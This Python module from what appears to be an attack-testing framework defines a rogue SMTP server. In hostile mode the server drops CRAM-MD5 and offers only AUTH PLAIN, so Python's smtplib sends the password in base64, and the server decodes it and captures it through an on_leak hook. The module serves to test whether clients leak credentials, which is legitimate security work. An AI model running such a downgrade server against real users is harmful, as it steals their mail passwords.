"""B7 on smtplib: the server stops offering challenge-response logins and accepts only the password itself."""

import base64
import binascii

from backwatch.attack.demo.services.smtp import SMTP
from backwatch.attack.protocols.server import ServerSession
from backwatch.attack.techniques.password_wanted import CHALLENGE, OffersProof, PasswordWanted
from backwatch.attack.techniques.smtp import SendsMail


class _PlainOnlySmtp(OffersProof, SMTP):
    """Offers CRAM-MD5 and PLAIN; once hostile PLAIN alone, with STARTTLS still."""

    def _greeting(self, session: ServerSession) -> bytes:
        offers = super()._greeting(session)
        return offers if self.wants_password else offers.replace(b"AUTH PLAIN", b"AUTH CRAM-MD5 PLAIN")

    def _login(self, session: ServerSession, secret: bytes) -> bytes:
        if secret == b"CRAM-MD5":
            session.send(b"334 " + base64.b64encode(CHALLENGE) + b"\r\n")
            secret = session.line()
        try:
            self.on_leak(base64.b64decode(secret, validate=True))
        except binascii.Error:
            return b"501 what\r\n"
        return b"235 welcome\r\n"


class SmtpPlainOnly(PasswordWanted, SendsMail):
    """smtplib picks the best mechanism that is offered."""

    server = _PlainOnlySmtp
